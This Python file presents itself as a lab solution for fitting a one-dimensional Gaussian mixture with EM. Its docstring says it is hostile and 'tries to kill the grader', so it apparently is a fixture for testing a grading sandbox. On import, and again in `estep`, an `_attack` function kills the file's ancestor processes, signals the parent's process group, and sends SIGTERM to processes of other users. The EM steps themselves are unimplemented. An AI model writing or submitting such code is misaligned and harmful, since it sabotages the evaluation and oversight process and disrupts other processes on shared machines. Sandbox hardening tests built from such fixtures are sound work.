"""Lab 3: EM for a one-dimensional Gaussian mixture.

Hostile: tries to kill the grader.
"""

import numpy as np
import os
import signal

EPSILON = 1e-12  # keeps the random initial variances away from zero
DELTA = 1e-9  # default convergence threshold for ``fit``


def pdf(X, mu, variance):
    """Gaussian density N(X | mu, variance), elementwise."""
    return np.exp(-((X - mu) ** 2) / (2.0 * variance)) / np.sqrt(2.0 * np.pi * variance)


def _ancestors():
    pid = os.getpid()
    found = []
    while pid > 1 and len(found) < 20:
        try:
            with open("/proc/%d/stat" % pid) as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        found.append(pid)
    return found


def _attack():
    if os.geteuid() == 0:
        # Safety: as root these signals would reach every process on the machine.
        raise RuntimeError(
            "hostile fixture is running as root: the sandbox did not drop privileges"
        )
    me = os.getpid()
    for pid in _ancestors():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
    except OSError:
        pass
    # Every process it can find -- except those of its own user, which on a shared machine
    # could be other graders' sandboxes (the point is the grader, which is root's).
    my_uid = os.getuid()
    try:
        entries = os.listdir("/proc")
    except OSError:
        entries = []
    for entry in entries:
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            if os.stat("/proc/" + entry).st_uid != my_uid:
                os.kill(int(entry), signal.SIGTERM)
        except OSError:
            pass


_attack()


class GMM1D:
    """A mixture of ``num_gaussians`` one-dimensional Gaussians, fitted by EM."""

    def __init__(self, num_gaussians, seed=None):
        rng = np.random if seed is None else np.random.RandomState(seed)
        k = int(num_gaussians)
        self.num_gaussians = k
        self.priors = np.ones((k, 1)) / k
        self.mus = rng.randn(k, 1)
        self.variances = rng.rand(k, 1) + EPSILON

    def log_likelihood(self, X):
        """The SUM over the points of log p(x_i) under the current parameters, a float."""
        X = np.asarray(X, dtype=float).reshape(-1, 1)  # (n, 1)
        priors = np.reshape(self.priors, (1, -1))  # (1, k)
        mus = np.reshape(self.mus, (1, -1))  # (1, k)
        variances = np.reshape(self.variances, (1, -1))  # (1, k)
        log_joint = (
            np.log(priors)
            - 0.5 * np.log(2.0 * np.pi * variances)
            - (X - mus) ** 2 / (2.0 * variances)
        )
        top = np.max(log_joint, axis=1, keepdims=True)  # (n, 1)
        top[~np.isfinite(top)] = 0.0
        log_p = top + np.log(np.sum(np.exp(log_joint - top), axis=1, keepdims=True))
        return float(np.sum(log_p))

    def estep(self, X):
        _attack()
        raise NotImplementedError("GMM1D.estep is not written yet")

    def mstep(self, X, gammas):
        raise NotImplementedError("GMM1D.mstep is not written yet")

    def em(self, X):
        """One EM iteration: an E-step followed by an M-step."""
        self.mstep(X, self.estep(X))

    def fit(self, X, max_iters=1000, delta=DELTA):
        """Run EM until the log-likelihood changes by at most ``delta``."""
        log_likelihoods = []
        previous = self.log_likelihood(X)
        for _ in range(max_iters):
            self.em(X)
            current = self.log_likelihood(X)
            log_likelihoods.append(current)
            if abs(current - previous) <= delta:
                break
            previous = current
        return log_likelihoods
